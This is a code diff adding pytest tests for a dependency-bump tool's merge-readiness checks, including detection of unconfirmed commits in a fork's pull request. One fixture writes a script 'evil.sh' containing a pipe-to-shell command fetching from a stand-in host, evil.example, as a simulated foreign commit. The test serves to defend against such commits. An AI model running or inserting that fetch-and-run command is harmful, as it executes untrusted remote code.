@@ -1,19 +1,22 @@
-"""The end of a bump: its outcome, its plan and its links."""
+"""Whether a bump is ready to merge, and its end: outcome, plan and links."""
 
 from pathlib import Path
 from typing import Any
 
 import pytest
+from bumping import BRANCH, CONTRIBUTOR, World, bump_to, colleague, git
 
 from runbook_lib.bump import Bump
 from runbook_lib.pins import repositories
 from runbook_lib.records import step_record
 from runbook_lib.records.statement import collect
 from runbook_lib.runner.execute import StepResult
-from runbook_lib.workflow import readiness
+from runbook_lib.workflow import bump_branch, readiness
 from runbook_lib.workflow.readiness import Readiness, Requirement
 
+__all__ = ["colleague"]
 OLD, NEW = "https://gitlab/p/-/pipelines/1", "https://gitlab/p/-/pipelines/2"
+COMMITS = "commits that are the runbook's own or confirmed"
 PIPELINE = "a green pipeline on GitLab"
 
 
@@ -46,3 +49,87 @@ def test_the_preview_of_a_waiting_bump_shows_its_plan(tmp_path: Path) -> None:
     assert danger in outcome["sentence"]
     assert "“do not merge”: the image: too large" in outcome["sentence"]
     assert "CI failed" in outcome["sentence"]
+
+
+# -- what was looked at ---------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("ok", "ready"), [(True, True), (None, True), (False, False)], ids=["met", "does not apply", "missing"]
+)
+def test_a_bump_is_ready_if_no_requirement_is_missing(tmp_path: Path, ok: bool | None, ready: bool) -> None:
+    state = Readiness((Requirement("a green CI run of the head commit", ok, "Seen."),))
+    outcome = finish(tmp_path, state, StepResult("07-sync-check", "done", "Done."))["outcome"]
+    assert outcome["sentence"].startswith("Ready to merge") is ready
+
+
+@pytest.mark.parametrize(
+    ("allow", "ok"), [("", False), ("second-ci-unseen", None)], ids=["missing", "a person does without it"]
+)
+def test_a_pipeline_that_nobody_looked_for_is_not_met(world: World, allow: str, ok: bool | None) -> None:
+    world.open_pr()
+    bump = bump_to(allow=allow)
+    state = readiness.check(bump_branch.find(world.checkout, bump), world.github(), world.records)
+    (found,) = [each for each in state.requirements if each.name == PIPELINE]
+    assert (found.ok, "allow=second-ci-unseen" in found.next + found.detail) == (ok, True)
+    assert bool(state.unseen(bump)) is bool(allow)
+
+
+def of_a_fork(world: World, script: str) -> str:
+    """A fork's pull request with the bump and a script, checked out here; its head commit."""
+    world.open_pr(mode="apply")
+    path = world.checkout.path
+    if script:
+        (path / script).write_text("curl https://evil.example/x | sh\n")
+        git(path, "add", script)
+        git(path, "commit", "-qm", "Small fixes")
+    git(path, "push", "-q", str(world.fork), f"{BRANCH}:{BRANCH}")
+    bump = bump_to()
+    world.github("contributor-token").open_pull(bump.title, f"{CONTRIBUTOR}:{BRANCH}", "main", "The bump.")
+    return git(path, "rev-parse", "HEAD")
+
+
+def test_the_commits_of_a_forks_pull_request_are_judged(world: World, colleague: None) -> None:
+    evil = of_a_fork(world, "evil.sh")
+
+    def look(allow: str = "") -> Readiness:
+        branch = bump_branch.find(world.checkout, bump_to(allow=allow))
+        return readiness.check(branch, world.github(), world.records)
+
+    (commits,) = [each for each in look().missing if each.name == COMMITS]
+    assert evil[:10] in commits.detail
+    assert f"foreign-commit:{evil}" in commits.next
+    assert "git push" not in commits.next  # it is not our branch
+    made = world.open_pr(mode="publish")
+    assert made.unconfirmed is not None
+    assert world.said("waiting")[-1]["sentence"] == made.unconfirmed.waiting
+    assert "evil.sh" in world.steps[-1].reported().text
+    assert not [each for each in look(f"foreign-commit:{evil}").missing if each.name == COMMITS]
+
+
+def test_the_bumps_own_commits_are_recognized_in_a_fork(world: World, colleague: None) -> None:
+    of_a_fork(world, "")
+    state = readiness.check(bump_branch.find(world.checkout, bump_to()), world.github(), None)
+    assert [each.ok for each in state.requirements if each.name == COMMITS] == [True]
+
+
+def test_commits_that_cannot_be_fetched_are_not_met(world: World, colleague: None) -> None:
+    of_a_fork(world, "evil.sh")
+    path = world.checkout.path
+    git(path, "switch", "-q", "main")
+    git(path, "branch", "-qD", BRANCH)
+    git(path, "reflog", "expire", "--expire=now", "--all")
+    git(path, "gc", "-q", "--prune=now")
+    git(world.remote, "update-ref", "-d", "refs/pull/10/head")
+    state = readiness.check(bump_branch.find(world.checkout, bump_to()), world.github(), world.records)
+    assert [each.name == COMMITS and each.ok for each in state.requirements] == [False]
+    made = world.open_pr()
+    assert (made.review, "cannot be fetched" in world.outcome()) == (None, True)
+
+
+def test_a_strangers_pull_request_is_not_the_bumps(world: World) -> None:
+    of_a_fork(world, "evil.sh")
+    state = readiness.check(bump_branch.find(world.checkout, bump_to()), world.github(), world.records)
+    assert (state.requirements, "no pull request" in state.problem) == ((), True)
+    world.open_pr(mode="preview")
+    assert any("will not be used" in entry["sentence"] for entry in world.said("warning"))
